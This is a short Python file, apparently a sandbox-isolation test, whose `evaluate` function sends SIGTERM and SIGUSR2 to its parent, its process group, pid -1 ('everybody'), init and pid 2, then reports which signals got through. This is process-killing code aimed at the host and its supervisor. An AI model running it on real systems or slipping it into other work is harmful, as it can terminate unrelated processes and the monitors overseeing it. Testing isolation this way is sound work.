"""Signals its parent, everybody, and whoever watches it."""

# then: nothing

import os
import signal


def evaluate(event):
    got = []
    for pid in (event["pid"], os.getppid(), 0, -1, 1, 2):
        for number in (0, signal.SIGUSR2, signal.SIGTERM):
            try:
                os.kill(pid, number)
                got.append([pid, int(number)])
            except OSError:
                pass
    return got
